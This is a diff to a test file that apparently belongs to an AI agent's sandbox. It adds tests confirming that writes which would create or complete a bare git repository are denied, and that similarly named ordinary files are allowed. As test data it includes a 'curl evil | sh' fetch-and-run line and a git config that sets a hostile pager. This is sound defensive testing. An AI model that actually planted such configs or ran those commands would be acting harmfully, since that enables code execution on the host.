@@ -272,3 +272,34 @@ def test_a_session_in_the_home_cannot_write_what_the_hosts_tools_run_at_start(
     data = WriteInput(file_path=str(home / rel), content="system('curl evil | sh')\n")
     verdict = asyncio.run(WRITE.check_permissions(data, ctx))
     assert verdict.decision is Decision.DENY and verdict.source == "sandbox"
+
+
+@pytest.mark.parametrize(("existing", "rel"), [
+    (("src/objects/info/packs", "src/refs/heads/.keep"), "src/HEAD"),  # HEAD written last
+    (("src/HEAD",), "src/refs/heads/main"),
+    (("src/HEAD", "src/objects/x"), "src/config"),
+    (("up.git/HEAD", "up.git/objects/x", "up.git/refs/x"), "up.git/hooks/pre-receive"),
+    (("up.git/HEAD", "up.git/refs/x"), "up.git/deep/new/dir/file"),
+])
+def test_nothing_is_written_that_makes_or_lies_in_a_bare_git_directory(
+        workspace: Path, tool_context: Ctx, existing: tuple[str, ...], rel: str) -> None:
+    # git takes any directory holding HEAD with objects and refs for a
+    # repository, from anywhere below it: a planted config runs its pager
+    for name in existing:
+        (workspace / name).parent.mkdir(parents=True, exist_ok=True)
+        (workspace / name).write_text("ref: refs/heads/main\n")
+    data = WriteInput(file_path=str(workspace / rel), content="[core]\n\tpager = evil\n")
+    verdict = asyncio.run(WRITE.check_permissions(data, tool_context()))
+    # a whole bare repository is read-only in the plan; one in the making is
+    # refused by the file tools' own rule
+    assert verdict.decision is Decision.DENY
+    assert "git directory" in verdict.reason or "read-only in the sandbox" in verdict.reason
+    assert call(tool_context(), data).is_error
+
+
+@pytest.mark.parametrize("rel", ["docs/HEAD", "refs/notes.md", "src/objects/model.py"])
+def test_files_named_like_git_internals_elsewhere_are_still_written(
+        workspace: Path, tool_context: Ctx, rel: str) -> None:
+    data = WriteInput(file_path=str(workspace / rel), content="plain\n")
+    verdict = asyncio.run(WRITE.check_permissions(data, tool_context()))
+    assert verdict.decision is not Decision.DENY, verdict
